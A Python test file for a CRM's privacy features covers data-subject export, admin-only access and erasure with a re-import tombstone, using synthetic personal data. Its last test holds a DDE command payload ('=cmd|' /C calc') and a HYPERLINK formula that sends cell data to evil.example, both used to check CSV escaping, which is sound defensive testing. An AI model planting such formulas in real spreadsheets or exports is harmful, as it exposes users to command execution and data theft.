"""DSAR export holds everything about the person (records, interactions, consents and
history, decision records, messages, agent memories); erasure leaves no trace in
records, search, memory or later exports, keeps a tombstone and flags a re-import."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from sqlalchemy import select

from kith.access.models import User
from kith.access.principal import Principal
from kith.access.repository import AccessRepository
from kith.access.service import principal_for_user
from kith.agents.models import AgentMemory, AgentRow
from kith.container import Container
from kith.core.errors import NotFound, PermissionDenied
from kith.crm import schemas as s
from kith.crm.models import Interaction
from kith.crm.service import RecordService
from kith.db.uow import UnitOfWork
from kith.gateway.gateway import Gateway
from kith.gateway.models import DecisionRecord, OutboundMessage
from kith.intelligence.models import Score
from kith.privacy import dsar
from kith.privacy.schemas import ConsentIn
from kith.privacy.service import ConsentService
from kith.search.models import SearchDocument
from tests.conftest import Workspace

As = Callable[[str, Callable[[UnitOfWork, Principal], Any]], Any]
PHONE = "13812345678"


@pytest.fixture
def as_user(container: Container, workspace: Workspace) -> As:
    def _as(role: str, fn: Callable[[UnitOfWork, Principal], Any]) -> Any:
        with container.uow() as uow:
            user = uow.session.get(User, workspace.users[role].id)
            assert user is not None
            out = fn(uow, principal_for_user(uow.session, user))
            uow.commit()
            return out

    return _as


@pytest.fixture
def person(as_user: As, workspace: Workspace) -> str:
    """A customer with interactions, a consent history, decisions, a message, a memory."""

    def build(uow: UnitOfWork, admin: Principal) -> str:
        records = RecordService(uow, admin)
        contact: str = records.create(
            "contact",
            s.ContactIn(
                name="林晓雯",
                email="lxw@mail.example",
                mobile=PHONE,
                id_number="310115199003071239",
            ),
        )["id"]
        messages = [
            records.create(
                "interaction",
                s.InteractionIn(channel="app", direction="inbound", contact_id=contact, text=text),
            )["id"]
            for text in ("冬季续航缩水严重", f"请回电 {PHONE}")
        ]
        # automated decisions about them: a churn score and a message's sentiment
        for object_type, record_id, kind in (
            ("contact", contact, "churn"),
            ("interaction", messages[0], "sentiment"),
        ):
            uow.session.add(
                Score(
                    tenant_id=admin.tenant_id, object_type=object_type, record_id=record_id,
                    kind=kind, score=0.81, band="high", model_version=f"{kind}@1",
                    factors=[{"feature": "tickets_90d", "value": 3, "weight": 0.4}],
                )
            )  # fmt: skip
        consents = ConsentService(uow, admin)
        consents.record(contact, ConsentIn(purpose="marketing", channel="sms", state="granted"))
        role = AccessRepository(uow.session).role_by_name(admin.tenant_id, "service")
        assert role is not None
        agent = AgentRow(
            tenant_id=admin.tenant_id, name="service", role_id=role.id, budget_per_hour=10
        )
        uow.session.add(agent)
        uow.session.flush()
        uow.session.add(
            AgentMemory(
                tenant_id=admin.tenant_id, agent_id=agent.id, namespace="customer",
                subject_type="contact", subject_id=contact, kind="fact",
                text=f"林晓雯偏好短信，手机{PHONE}", terms="林晓雯 偏好 短信",
            )
        )  # fmt: skip
        return contact

    contact_id: str = as_user("admin", build)
    args = {"contact_id": contact_id, "channel": "email", "subject": "工单", "body": "已处理"}
    as_user(
        "service",
        lambda uow, p: Gateway().execute(uow, p, "messages.send", args, purpose="service"),
    )
    as_user(
        "marketing",
        lambda uow, p: Gateway().execute(
            uow, p, "messages.send", {**args, "channel": "wechat"}, purpose="marketing"
        ),
    )  # refused: no consent on WeChat
    as_user(
        "admin",
        lambda uow, p: ConsentService(uow, p).record(
            contact_id, ConsentIn(purpose="marketing", channel="*", state="revoked")
        ),
    )
    return contact_id


def _export(as_user: As, contact_id: str) -> zipfile.ZipFile:
    body: bytes = as_user("admin", lambda uow, p: dsar.export_zip(uow, p, contact_id))
    return zipfile.ZipFile(io.BytesIO(body))


def test_the_export_holds_everything_about_the_person(as_user: As, person: str) -> None:
    archive = _export(as_user, person)
    data = json.loads(archive.read("data.json"))
    assert data["contact"]["id_number"] == "310115199003071239"  # their own data, unmasked
    tables = data["tables"]
    assert len(tables["interactions"]) == 3  # two inbound, one message sent
    assert sorted(e["state"] for e in tables["consent_events"]) == ["granted", "revoked"]
    statuses = sorted(d["status"] for d in tables["decision_records"])
    assert "refused" in statuses and len(statuses) == 2
    assert [m["channel"] for m in tables["outbound_messages"]] == ["email"]
    assert [m["text"] for m in tables["agent_memories"]] == [f"林晓雯偏好短信，手机{PHONE}"]
    assert {c["purpose"] for c in data["consents_current"]} == {"marketing"}
    # every automated decision about them, with its factors (S6)
    scores = sorted((r["object_type"], r["kind"]) for r in tables["scores"])
    assert scores == [("contact", "churn"), ("interaction", "sentiment")]
    assert tables["scores"][0]["factors"][0]["feature"] == "tickets_90d"
    names = set(archive.namelist())
    assert {"data.json", "summary.md", "csv/contact.csv", "csv/interactions.csv"} <= names
    summary = archive.read("summary.md").decode()
    assert "Decisions about you" in summary and "关于您的决策" in summary
    assert "Automated scores about you" in summary and "feature tickets_90d" in summary


def test_only_admins_handle_data_subject_requests(as_user: As, person: str) -> None:
    with pytest.raises(PermissionDenied):
        as_user("manager", lambda uow, p: dsar.export_zip(uow, p, person))


def test_erasure_leaves_no_trace_and_a_reimport_is_flagged(
    as_user: As, person: str, container: Container
) -> None:
    def erase(uow: UnitOfWork, admin: Principal) -> tuple[str, str, dict[str, int]]:
        tombstone = dsar.erase(uow, admin, container.settings, person, "客户要求删除")
        return tombstone.id, tombstone.tenant_id, dict(tombstone.summary)

    tombstone_id, tenant_id, summary = as_user("admin", erase)
    assert summary["agent_memories.deleted"] == 1
    assert summary["scores.deleted"] == 2
    with container.uow() as uow:
        assert uow.session.scalars(select(AgentMemory)).all() == []
        assert uow.session.scalars(select(Score)).all() == []
        texts = [i.text for i in uow.session.scalars(select(Interaction))]
        assert texts and all(PHONE not in (t or "") and "林晓雯" not in (t or "") for t in texts)
        assert (
            uow.session.scalars(
                select(SearchDocument).where(SearchDocument.record_id == person)
            ).all()
            == []
        )
        for message in uow.session.scalars(select(OutboundMessage)):
            assert "lxw@mail.example" not in message.recipient
        for decision in uow.session.scalars(select(DecisionRecord)):
            assert "lxw@mail.example" not in json.dumps(decision.args, ensure_ascii=False)
    with pytest.raises(NotFound):
        _export(as_user, person)
    with container.uow() as uow:
        again = dsar.erased_before(uow, container.settings, tenant_id, {"mobile": f"+86 {PHONE}"})
        stranger = dsar.erased_before(
            uow, container.settings, tenant_id, {"email": "someone@else.example"}
        )
        assert [t.id for t in again] == [tombstone_id] and stranger == []


def test_csv_tables_do_not_carry_spreadsheet_formulas(as_user: As, workspace: Workspace) -> None:
    formula = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'

    def build(uow: UnitOfWork, admin: Principal) -> str:
        records = RecordService(uow, admin)
        contact: str = records.create("contact", s.ContactIn(name="=cmd|' /C calc'!A0"))["id"]
        records.create(
            "interaction",
            s.InteractionIn(channel="app", direction="inbound", contact_id=contact, text=formula),
        )
        return contact

    archive = _export(as_user, as_user("admin", build))
    (contact,) = csv.DictReader(io.StringIO(archive.read("csv/contact.csv").decode()))
    assert contact["name"] == "'=cmd|' /C calc'!A0"
    interactions = csv.DictReader(io.StringIO(archive.read("csv/interactions.csv").decode()))
    assert [row["text"] for row in interactions] == ["'" + formula]
    # data.json is not a spreadsheet: the values are exact.
    data = json.loads(archive.read("data.json"))
    assert data["contact"]["name"] == "=cmd|' /C calc'!A0"
    assert data["tables"]["interactions"][0]["text"] == formula
